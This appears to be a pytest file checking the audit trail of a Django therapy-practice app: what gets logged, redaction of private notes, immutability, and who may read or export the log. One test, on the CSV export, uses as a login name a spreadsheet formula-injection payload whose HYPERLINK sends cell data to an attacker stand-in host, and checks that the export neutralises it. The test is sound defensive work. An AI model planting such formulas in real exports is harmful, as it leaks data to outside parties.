"""The audit trail: one row per create, change, delete and view, and nothing can alter it."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone

from accounts.models import Team, User
from audit.models import AuditEvent, AuditImmutableError
from audit.readers import AUDIT_READERS
from clients.models import Client, Rating, TherapySession
from clients.recording import save_session
from factors.models import Factor, Prompt
from selfreport.models import Question, SelfReportLink, SelfReportRating
from supervision.models import ReviewNote
from tests.factories import TherapySessionFactory, UserFactory
from tests.test_access import EXPECTED, make_world, url_for

pytestmark = pytest.mark.django_db


def events(**filters):
    return list(AuditEvent.objects.filter(**filters).order_by("pk"))


def session_data(client, **overrides):
    data = {"client": client.pk, "date": (timezone.localdate() - timedelta(days=1)).isoformat(), "setting": "online"}
    data.update({f"score_{f.key}": "4" for f in Factor.objects.all()})
    data.update(overrides)
    return data


def test_adding_and_editing_a_client_is_audited_without_free_text(owner_client, owner):
    data = {
        "label": "A.U.",
        "intake_date": (timezone.localdate() - timedelta(days=30)).isoformat(),
        "status": "active",
        "attachment_style": "unknown",
        "usual_setting": "online",
        "fee_arrangement": "standard",
        "culture_notes": "Private faith detail",
        "support_notes": "",
    }
    owner_client.post(reverse("client_create"), data, REMOTE_ADDR="192.0.2.10")
    client = Client.objects.get()
    [created] = events(action="create", object_type="clients.client")
    assert (created.actor, created.client_id, created.ip) == (owner, client.pk, "192.0.2.10")
    assert created.changes["label"] == [None, "A.U."]
    assert created.changes["culture_notes"] == "(changed)"
    owner_client.post(
        reverse("client_edit", args=[client.pk]),
        {**data, "version": client.version, "fee_arrangement": "pro_bono", "culture_notes": "Another private detail"},
    )
    [updated] = events(action="update", object_type="clients.client")
    assert updated.changes == {"fee_arrangement": ["standard", "pro_bono"], "culture_notes": "(changed)"}
    assert "Private" not in str(AuditEvent.objects.values_list("changes", flat=True)[::1])
    assert updated.at <= timezone.now()
    assert str(updated.at.tzinfo) == "UTC"


def test_logging_a_session_audits_the_session_and_each_rating(owner_client, their_client):
    owner_client.post(reverse("session_create"), session_data(their_client, note_openness="Private note"))
    session = TherapySession.objects.get()
    assert len(events(action="create", object_type="clients.therapysession", object_id=str(session.pk))) == 1
    ratings = events(action="create", object_type="clients.rating")
    assert len(ratings) == 12
    assert all(e.client_id == their_client.pk for e in ratings)
    openness = next(e for e in ratings if e.changes["factor"] == "openness")
    assert openness.changes == {"factor": "openness", "score": 4, "note": "(changed)"}


def test_editing_a_session_audits_the_changed_ratings_and_fields(owner_client, their_client):
    session = TherapySessionFactory(client=their_client, default_score=3)
    before = AuditEvent.objects.count()
    data = session_data(their_client, date=session.date.isoformat(), setting="phone", version=session.version)
    data["score_stigma"] = "1"
    owner_client.post(reverse("session_edit", args=[session.pk]), data)
    new = list(AuditEvent.objects.order_by("pk")[before:])
    updates = [e for e in new if e.action == "update"]
    session_update = next(e for e in updates if e.object_type == "clients.therapysession")
    assert session_update.changes == {"setting": ["in_person", "phone"]}
    stigma = next(e for e in updates if e.object_type == "clients.rating" and e.changes["factor"] == "stigma")
    assert stigma.changes["score"] == [3, 1]
    assert len([e for e in updates if e.object_type == "clients.rating"]) == 12  # every rating moved 3 -> 4 or 1


def test_viewing_a_client_record_is_audited(owner_client, owner, their_client):
    owner_client.get(reverse("client_detail", args=[their_client.pk]))
    [view] = events(action="view")
    assert (view.actor, view.client_id, view.path) == (owner, their_client.pk, f"/clients/{their_client.pk}/")


def test_review_notes_prompt_trials_and_reads_are_audited(client, owner, their_client):
    supervisor = UserFactory(username="sup", role=User.Role.SUPERVISOR)
    owner.team = Team.objects.create(name="T", supervisor=supervisor)
    owner.save()
    TherapySessionFactory(client=their_client, ratings={"openness": 2})
    client.force_login(supervisor)
    client.post(reverse("review_note_create", args=[their_client.pk]), {"text": "Confidential supervision thought"})
    [note_event] = events(object_type="supervision.reviewnote", action="create")
    assert note_event.changes["text"] == "(changed)"
    client.force_login(owner)
    client.post(reverse("review_notes_read", args=[their_client.pk]))
    [read] = events(object_type="supervision.reviewnote", action="update")
    assert read.changes["read_at"][0] is None
    prompt = Prompt.objects.filter(factor__key="openness").first()
    client.post(reverse("prompt_trial", args=[their_client.pk]), {"prompt": prompt.pk, "action": "try"})
    client.post(reverse("prompt_trial", args=[their_client.pk]), {"prompt": prompt.pk, "action": "undo"})
    assert [e.action for e in events(object_type="clients.prompttrial")] == ["create", "delete"]
    assert ReviewNote.objects.get().read_at is not None


def test_logins_logouts_and_denied_accesses_are_audited(client, owner, colleagues_client):
    client.post(
        reverse("login"), {"username": "owner", "password": "correct horse battery staple"}, REMOTE_ADDR="192.0.2.44"
    )
    client.get(reverse("client_detail", args=[colleagues_client.pk]))
    client.post(reverse("logout"))
    client.post(reverse("login"), {"username": "ghost", "password": "x"})
    actions = [(e.action, e.actor_username) for e in events()]
    assert ("login", "owner") in actions
    assert ("denied", "owner") in actions
    assert ("logout", "owner") in actions
    assert ("login_failed", "ghost") in actions
    assert events(action="login")[0].ip == "192.0.2.44"


def test_discharge_keeps_the_record_and_is_audited(owner_client, their_client):
    page = owner_client.get(reverse("client_discharge", args=[their_client.pk]))
    assert "Nothing is deleted" in page.content.decode()
    their_client.refresh_from_db()
    assert their_client.status == "active"  # asking changes nothing
    owner_client.post(reverse("client_discharge", args=[their_client.pk]))
    their_client.refresh_from_db()
    assert their_client.status == "discharged"
    assert events(action="update", object_type="clients.client")[0].changes == {"status": ["active", "discharged"]}


def test_hard_deletion_is_an_audited_administrator_action_with_confirmation(client, their_client):
    TherapySessionFactory(client=their_client)
    admin = UserFactory(username="adm", role=User.Role.ADMINISTRATOR, is_staff=True, is_superuser=True)
    client.force_login(admin)
    url = reverse("admin:clients_client_delete", args=[their_client.pk])
    assert "Are you sure" in client.get(url).content.decode()
    assert Client.objects.exists()
    client.post(url, {"post": "yes"})
    assert not Client.objects.exists()
    deleted = {e.object_type for e in events(action="delete", client_id=their_client.pk)}
    assert {"clients.client", "clients.therapysession", "clients.rating"} <= deleted
    assert all(e.actor == admin for e in events(action="delete"))


def test_a_clinician_cannot_reach_the_client_admin(owner_client, their_client):
    response = owner_client.get(reverse("admin:clients_client_delete", args=[their_client.pk]))
    assert response.status_code == 302


def test_audit_rows_cannot_be_changed_or_deleted(owner_client, their_client):
    owner_client.get(reverse("client_detail", args=[their_client.pk]))
    row = AuditEvent.objects.get(action="view")
    row.action = "create"
    with pytest.raises(AuditImmutableError):
        row.save()
    with pytest.raises(AuditImmutableError):
        row.delete()
    with pytest.raises(AuditImmutableError):
        AuditEvent.objects.update(action="create")
    with pytest.raises(AuditImmutableError):
        AuditEvent.objects.all().delete()
    assert AuditEvent.objects.filter(action="view").count() == 1


def privacy_officer(**fields):
    officer = UserFactory(username="officer", is_staff=True, **fields)
    officer.groups.add(Group.objects.get(name=AUDIT_READERS))
    return officer


def test_a_privacy_officer_searches_pages_and_exports_the_trail(client, owner, their_client):
    for _ in range(3):
        TherapySessionFactory(client=their_client)
    admin = privacy_officer()
    client.force_login(admin)
    changelist = reverse("admin:audit_auditevent_changelist")
    by_client = client.get(changelist, {"q": str(their_client.pk), "action__exact": "create"})
    assert by_client.status_code == 200
    assert by_client.context["cl"].result_count == 1 + 3 * 13  # the client, then 3 sessions with 12 ratings each
    rows = AuditEvent.objects.filter(client_id=their_client.pk).values_list("pk", flat=True)
    export = client.post(changelist, {"action": "export_csv", "_selected_action": list(rows)})
    assert export["Content-Type"] == "text/csv"
    lines = export.content.decode().strip().splitlines()
    assert lines[0].startswith("at,actor_username,ip,action")
    assert len(lines) == 1 + len(rows)
    assert client.get(reverse("admin:audit_auditevent_change", args=[rows[0]])).status_code == 200
    assert client.post(reverse("admin:audit_auditevent_delete", args=[rows[0]])).status_code == 403
    assert client.get(reverse("admin:audit_auditevent_add")).status_code == 403


def test_writes_that_bypass_signals_are_audited_explicitly(their_client):
    session = TherapySessionFactory(client=their_client)
    factor = Factor.objects.get(key="support")
    save_session(session, {factor: (1, "")})  # bulk_update under the hood
    [event] = events(action="update", object_type="clients.rating")
    assert event.changes == {"factor": "support", "score": [4, 1]}
    assert Rating.objects.get(session=session, factor=factor).score == 1


# --- who reads the trail, and that reading it is audited ---------------------------------------


@pytest.mark.parametrize("superuser", [True, False], ids=["superuser", "staff"])
def test_only_the_privacy_officers_group_can_read_the_trail(client, their_client, superuser):
    TherapySessionFactory(client=their_client)
    admin = UserFactory(username="adm", is_staff=True, is_superuser=superuser)
    client.force_login(admin)
    row = AuditEvent.objects.filter(client_id=their_client.pk).first()
    changelist = reverse("admin:audit_auditevent_changelist")
    assert client.get(changelist).status_code == 403
    assert client.get(reverse("admin:audit_auditevent_change", args=[row.pk])).status_code == 403
    export = client.post(changelist, {"action": "export_csv", "_selected_action": [row.pk]})
    assert export.status_code == 403
    assert "Audit trail" not in client.get(reverse("admin:index")).content.decode()
    assert AuditEvent.objects.filter(action="denied", actor=admin).count() == 3  # each refusal is on the record
    admin.groups.add(Group.objects.get(name=AUDIT_READERS))
    assert client.get(changelist).status_code == 200
    assert "Audit trail" in client.get(reverse("admin:index")).content.decode()


def test_the_group_alone_is_not_enough_without_staff_access(client):
    officer = privacy_officer()
    User.objects.filter(pk=officer.pk).update(is_staff=False)
    client.force_login(officer)
    assert client.get(reverse("admin:audit_auditevent_changelist")).status_code == 302  # to the admin login


def test_reading_the_trail_is_itself_audited(client, their_client):
    TherapySessionFactory(client=their_client)
    officer = privacy_officer()
    client.force_login(officer)
    row = AuditEvent.objects.filter(client_id=their_client.pk).first()
    client.get(reverse("admin:audit_auditevent_changelist"), {"q": str(their_client.pk)})
    client.get(reverse("admin:audit_auditevent_change", args=[row.pk]))
    listed, opened = events(actor=officer, action="view", object_type="audit.auditevent")
    assert listed.changes["search"] == {"q": str(their_client.pk)}
    assert listed.changes["rows"] > 0
    assert opened.object_id == str(row.pk)


def test_the_trail_export_neutralises_spreadsheet_formulas(client, db):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    client.post(reverse("login"), {"username": hostile, "password": "x"})
    client.post(reverse("login"), {"username": "@SUM(1+1)", "password": "x"})
    client.force_login(privacy_officer())
    rows = AuditEvent.objects.filter(action="login_failed").values_list("pk", flat=True)
    export = client.post(
        reverse("admin:audit_auditevent_changelist"), {"action": "export_csv", "_selected_action": list(rows)}
    )
    cells = [cell for line in csv.reader(io.StringIO(export.content.decode())) for cell in line]
    assert "'" + hostile in cells
    assert "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_granting_and_removing_the_privacy_officer_role_is_audited(db):
    user = UserFactory(username="newofficer", is_staff=True)
    group = Group.objects.get(name=AUDIT_READERS)
    user.groups.add(group)
    group.user_set.remove(user)
    granted, removed = events(object_type="accounts.user", object_id=str(user.pk))
    assert granted.changes == {"groups added": [AUDIT_READERS]}
    assert removed.changes == {"groups removed": [AUDIT_READERS]}


# --- deletions, cascades included ---------------------------------------------------------------


def test_self_report_answers_removed_by_a_cascade_are_audited_with_what_they_were(their_client, owner):
    session = TherapySessionFactory(client=their_client)
    link, _ = SelfReportLink.create_for(session, owner)
    question = Question.objects.get(key="openness", active=True)
    answer = SelfReportRating.objects.create(link=link, question=question, score=2)
    Client.objects.filter(pk=their_client.pk).delete()
    deleted = {(e.object_type, e.object_id): e for e in events(action="delete")}
    gone = deleted[("selfreport.selfreportrating", str(answer.pk))]
    assert gone.client_id == their_client.pk
    assert gone.changes["score"] == [2, None]
    assert ("selfreport.selfreportlink", str(link.pk)) in deleted
    assert ("clients.therapysession", str(session.pk)) in deleted
    assert deleted[("clients.client", str(their_client.pk))].changes["label"] == ["J.M.", None]
    ratings = [e for e in deleted.values() if e.object_type == "clients.rating"]
    assert len(ratings) == 12
    assert all(e.client_id == their_client.pk for e in ratings)


def test_a_deleted_rows_free_text_is_only_marked_as_changed(their_client):
    session = TherapySessionFactory(client=their_client, note="Private session note")
    session.delete()
    [gone] = events(action="delete", object_type="clients.therapysession")
    assert gone.changes["note"] == "(changed)"
    assert "Private" not in str(AuditEvent.objects.values_list("changes", flat=True)[::1])


# --- every page that shows a client's data is audited -------------------------------------------

# Pages that show no client's data, with the reason; every other page is walked below.
NO_CLIENT_DATA = {
    "login": "the login form",
    "logout": "logs out",
    "logged_out": "a message",
    "fhir_questionnaire": "the instrument's twelve questions, no answers",
    "client_create": "an empty form",
    "profile": "the user's own settings (their time zone, their second factor)",
    "two_step": "the second step of the login",
    "two_step_enrol": "setting up the user's own authenticator app (audited when it is done)",
    "recovery_codes_renew": "the user's own recovery codes (audited as a change to the user)",
    "flag_mark": "a one-click mark that redirects (the mark itself is audited as a FlagReview)",
    "guidance": "general guidance, no client",
    "prompt_library": "the prompt library, no client",
    "calibration_mine": "agreement statistics over the user's sessions: numbers only, no client named or linked",
    "calibration_clinician": "agreement statistics over a clinician's sessions: numbers only, no client named",
    "vignette_list": "the written vignettes, no client",
    "vignette": "a written vignette and the user's ratings of it, no client",
}
# Query strings that make a page show a client (the session form for a chosen client, the
# alliance x progress cell the client is in).
QUERY = {
    "session_create": lambda world: {"client": world["client"].pk},
    "alliance_progress": lambda world: {"alliance": "flags", "progress": "not_measured"},  # openness 1: a flag
}


def about_the_client(event, client_pk):
    return event.client_id == client_pk or client_pk in (event.changes or {}).get("clients", [])


def page_requests():
    """(name, method, role) for every page some user is shown, from the access matrix."""
    for name, (_, rules) in sorted(EXPECTED.items()):
        if name in NO_CLIENT_DATA:
            continue
        for method, index in (("get", 0), ("post", 1)):
            if method == "post" and any(rule[0] == 200 for rule in rules.values()):
                continue  # a page with a GET is walked by its GET; its POST re-renders are audited the same way
            role = next((r for r in ("anonymous", "owner", "own_supervisor") if rules[r][index] == 200), None)
            if role:
                yield name, method, role


@pytest.mark.parametrize(("name", "method", "role"), list(page_requests()))
def test_every_page_that_shows_a_client_is_audited(client, name, method, role):
    world = make_world()
    url = url_for(name, world)
    if name == "self_report":
        _link, token = SelfReportLink.create_for(world["session"], world["users"]["owner"])
        url = reverse(name, args=[token])
    if role != "anonymous":
        client.force_login(world["users"][role])
    before = AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first()
    query = QUERY.get(name, lambda world: {})(world)
    response = client.get(url, query) if method == "get" else client.post(url)
    assert response.status_code == 200
    new = AuditEvent.objects.filter(pk__gt=before).exclude(action="login")
    assert any(about_the_client(e, world["client"].pk) for e in new), f"{method.upper()} {name} is not audited"


def test_every_url_is_either_walked_or_shows_no_client_data():
    walked = {name for name, _, _ in page_requests()}
    post_only = {"prompt_trial", "review_notes_read"}  # they redirect; their writes are audited above
    assert walked | set(NO_CLIENT_DATA) | post_only == set(EXPECTED)


def test_opening_the_edit_pages_is_audited_as_a_view(owner_client, owner, their_client):
    session = TherapySessionFactory(client=their_client)
    owner_client.get(reverse("client_edit", args=[their_client.pk]))
    owner_client.get(reverse("session_edit", args=[session.pk]))
    views = events(action="view", actor=owner)
    assert [(e.object_type, e.client_id, e.changes) for e in views] == [
        ("clients.client", their_client.pk, {"page": "edit"}),
        ("clients.therapysession", their_client.pk, {"page": "edit"}),
    ]


def test_the_admin_client_pages_are_audited(client, their_client):
    TherapySessionFactory(client=their_client)
    admin = UserFactory(username="adm", role=User.Role.ADMINISTRATOR, is_staff=True, is_superuser=True)
    client.force_login(admin)
    client.get(reverse("admin:clients_client_change", args=[their_client.pk]))
    client.get(reverse("admin:clients_client_delete", args=[their_client.pk]))
    pages = [e.changes["admin"] for e in events(action="view", client_id=their_client.pk, actor=admin)]
    assert pages == ["client record", "deletion confirmation"]
